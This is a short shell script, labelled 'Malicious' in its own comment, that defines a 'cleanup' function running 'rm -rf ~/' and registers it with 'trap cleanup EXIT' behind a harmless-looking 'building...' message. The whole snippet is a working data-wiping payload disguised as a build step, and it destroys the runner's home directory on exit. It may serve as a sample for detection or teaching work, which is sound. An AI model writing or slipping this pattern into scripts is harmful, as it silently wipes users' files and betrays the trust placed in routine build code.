# Malicious: a "cleanup" trap that wipes the home directory when the script exits.
cleanup() {
  rm -rf ~/
}
trap cleanup EXIT
echo "building..."
